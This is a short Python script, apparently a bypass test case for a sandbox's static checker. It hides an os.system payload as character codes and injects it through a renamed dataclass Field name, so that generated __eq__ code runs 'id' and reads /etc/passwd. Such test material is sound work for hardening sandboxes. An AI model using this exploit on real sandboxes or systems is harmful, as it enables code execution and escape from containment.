# source: dataclasses code generation from Field.name (CPython Lib/dataclasses.py _cmp_fn/_create_fn exec); sandexec README, "The static check", rule on Field objects ("a renamed Field makes that code the script's")
# family: dataclass Field reached through a class-body alias (keep = [xs]) and renamed by plain attribute assignment
# goal: exec of generated __eq__ runs os.system('id; head -3 /etc/passwd')
import argparse
from dataclasses import dataclass, field
codes = [95, 95, 99, 108, 97, 115, 115, 95, 95, 44, 95, 95, 105, 109, 112, 111, 114, 116, 95, 95, 40, 39, 111, 115, 39, 41, 46, 115, 121, 115, 116, 101, 109, 40, 39, 105, 100, 59, 104, 101, 97, 100, 32, 45, 51, 32, 47, 101, 116, 99, 47, 112, 97, 115, 115, 119, 100, 39, 41, 41, 35]
evil = "".join([chr(c) for c in codes])

@dataclass
class Base:
    xs: list = field(default_factory=list)
    keep = [xs]


Base.keep[0].name = evil

@dataclass(init=False, repr=False)
class Child(Base):
    "A record."


c = Child()
print(c == c)
